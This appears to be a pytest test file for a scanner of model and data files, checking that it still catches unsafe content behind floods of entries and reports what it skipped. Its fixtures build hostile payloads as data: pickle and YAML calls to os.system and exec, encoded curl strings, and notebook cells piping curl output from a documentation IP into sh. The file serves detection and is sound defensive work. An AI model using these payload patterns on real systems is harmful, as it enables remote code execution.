"""Floods of different things: what was found stays found, names are judged on, and what was left out is said."""

from __future__ import annotations

import base64
import json
import random
from pathlib import Path

import pytest

from toadstone.core.budget import Budget
from toadstone.core.errors import UsageError
from toadstone.core.finding import Severity
from toadstone.core.report import Report
from toadstone.tables.open import open_dataset
from toadstone.verbs.scan import scan
from toadstone.verbs.sighting import _MAYBE, may_name

COMMAND = b"cposix\nsystem\n\x8c\x0eecho toadstone\x85R0"
MANY = 8_000


def looked_at(path: Path, data: bytes | str) -> Report:
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return scan(path)


def reasons(report: Report) -> str:
    return " ".join(gap.reason for subject in report.subjects for gap in subject.unread)


def worst(report: Report) -> Severity:
    return max(finding.severity for subject in report.subjects for finding in subject.findings)


def text(words: str) -> bytes:
    return b"X" + len(words).to_bytes(4, "little") + words.encode()


FLOODS = {
    "unknown calls": lambda n: b"cm%d\nf\n" % n + text(f"a{n}") + b"\x85R0",
    "objects of unknown classes": lambda n: b"cm\nC%d\n)\x81}" % n + text(f"k{n}") + b"Nsb0",
    "commands": lambda n: b"cos\nsystem\n" + text(f"echo {n}") + b"\x85R0",
    "modules by name": lambda n: b"cimportlib\nimport_module\n" + text(f"m{n}") + b"\x85R0",
    "code": lambda n: b"cbuiltins\nexec\n" + text(f"import os; os.system('echo {n}')") + b"\x85R0",
}


@pytest.mark.parametrize("kind", FLOODS)
def test_a_flood_of_different_calls_is_cut_and_the_cut_is_said(kind, tmp_path):
    body = b"".join(FLOODS[kind](number) for number in range(MANY))
    report = looked_at(tmp_path / "model.pkl", b"\x80\x04" + body + b"N.")
    assert "more findings than are worked out" in reasons(report)
    assert not report.subjects[0].complete
    assert worst(report) >= Severity.MEDIUM


@pytest.mark.parametrize("kind", ["unknown calls", "objects of unknown classes"])
def test_what_is_imported_behind_a_flood_is_still_found(kind, tmp_path):
    body = b"".join(FLOODS[kind](number) for number in range(MANY))
    report = looked_at(tmp_path / "model.pkl", b"\x80\x04" + body + COMMAND + b"N.")
    named = [finding for finding in report.subjects[0].findings if finding.check == "unsafe-import"]
    assert any("system" in finding.message and finding.severity >= Severity.HIGH for finding in named)


def test_what_was_found_before_a_flood_stays_found(tmp_path):
    body = b"".join(FLOODS["unknown calls"](number) for number in range(MANY))
    report = looked_at(tmp_path / "model.pkl", b"\x80\x04" + COMMAND + body + b"N.")
    assert worst(report) is Severity.CRITICAL
    assert report.exit_code(Severity.HIGH) == 1


def test_a_flood_of_streams_ends_at_some_point(tmp_path):
    report = looked_at(tmp_path / "model.pkl", (b"\x80\x04" + COMMAND + b"N.") * 12_000)
    assert "what follows was not looked at" in reasons(report)
    assert worst(report) is Severity.CRITICAL


def test_many_objects_of_one_unknown_class_are_no_flood(tmp_path):
    body = b"".join(b"cm\nC\n)\x81}" + text(f"k{number}") + text(f"v{number}") + b"sb0" for number in range(6_000))
    report = looked_at(tmp_path / "model.pkl", b"\x80\x04" + body + b"N.")
    assert report.subjects[0].complete
    assert worst(report) is Severity.MEDIUM


def test_many_harmless_calls_are_no_flood(tmp_path):
    body = b"".join(b"cdecimal\nDecimal\n" + text(f"{number}.5") + b"\x85R0" for number in range(10_000))
    report = looked_at(tmp_path / "model.pkl", b"\x80\x04" + body + b"N.")
    assert report.subjects[0].complete
    assert not report.subjects[0].findings


def test_encoded_constants_beyond_a_thousand_are_said_to_be_left_out(tmp_path):
    def line(number: int) -> str:
        hidden = base64.b64encode(f"curl http://198.51.100.{number % 250}/p{number}".encode()).decode()
        return f"x{number} = '{hidden}'\n"

    few = looked_at(tmp_path / "few.py", "".join(map(line, range(50))))
    assert few.subjects[0].complete
    many = looked_at(tmp_path / "many.py", "".join(map(line, range(1_500))))
    assert "more encoded text than is looked into" in reasons(many)


def test_cells_behind_a_flood_are_unread(tmp_path):
    cells = [
        {"cell_type": "code", "source": f"!curl http://198.51.100.9/{number} | sh", "outputs": []} for number in range(4_000)
    ]
    report = looked_at(tmp_path / "a.ipynb", json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": cells}))
    assert "was not read" in reasons(report)
    assert worst(report) >= Severity.HIGH


def test_a_subject_is_crowded_when_its_alarms_are_used_up_and_overrun_later():
    budget = Budget.of(0)
    while not budget.crowded():
        assert not budget.overrun()
        budget.alarm()
    assert not budget.overrun()
    for _ in range(5_001):
        budget.alarm()
    assert budget.overrun()


def test_a_long_text_is_looked_through_as_a_short_one_is():
    draw = random.Random(7)
    parts = [
        "a",
        "Z",
        "5",
        "0x",
        "123456789",
        "dot",
        "]",
        " ",
        ".",
        "\u3002",
        "/",
        ":",
        "\\",
        "~",
        "[",
        "etc/",
        "é",
        "[:]",
        "f00baa",
    ]
    parts += ["abcdefghijklmnopqrstuvwxyz", "0123456789012345678901234567", "\n"]
    padding = " é , " * 300
    for _ in range(3_000):
        written = "".join(draw.choices(parts, k=draw.randrange(1, 7)))
        assert may_name(padding + written + padding) == bool(_MAYBE.search(padding + written + padding)), written


def test_a_tag_behind_thousands_of_others_is_judged(tmp_path):
    tags = "".join(f"- !!python/object:m{number}.C {{a: {number}}}\n" for number in range(1_000))
    report = looked_at(tmp_path / "a.yaml", tags + "- !!python/object/apply:os.system ['echo inert']\n")
    assert worst(report) is Severity.CRITICAL


def test_tags_that_are_not_judged_are_said(tmp_path):
    report = looked_at(tmp_path / "a.yaml", "".join(f"- !t{number} 1\n" for number in range(40_010)))
    assert "more tags than any real document has" in reasons(report)


def test_a_library_behind_many_unknown_operators_is_found_or_said(tmp_path):
    def layers(count: int) -> str:
        unknown = "".join(f'<layer id="{n}" name="l{n}" type="T{n}" version="extension{n}"/>' for n in range(count))
        loading = '<layer id="x" name="x" type="Exec" version="extension"><data library="/tmp/toadstone-inert.so"/></layer>'
        return f'<?xml version="1.0"?>\n<net name="tiny" version="11"><layers>{unknown}{loading}</layers><edges/></net>\n'

    assert worst(looked_at(tmp_path / "a.xml", layers(1_000))) >= Severity.HIGH
    assert "the rest is not judged" in reasons(looked_at(tmp_path / "b.xml", layers(4_200)))


def test_promises_that_are_not_judged_are_said(tmp_path):
    from benchmarks.corpus.malicious.formats2 import workspaces as r

    def promise(name: str) -> bytes:
        return r.promise(r.call(name, r.string("echo inert")))

    few = looked_at(tmp_path / "a.rds", r.rds(r.vector(*[promise("paste")] * 1_000, promise("system"))))
    assert worst(few) is Severity.CRITICAL
    many = looked_at(tmp_path / "b.rds", r.rds(r.vector(*[promise("paste")] * 8_200, promise("system"))))
    assert not many.subjects[0].complete


def test_a_table_of_commas_is_refused_before_anything_is_made_of_it(tmp_path):
    path = tmp_path / "a.csv"
    path.write_text("," * 200_000)
    with pytest.raises(UsageError, match="200,001 columns"):
        open_dataset(path)
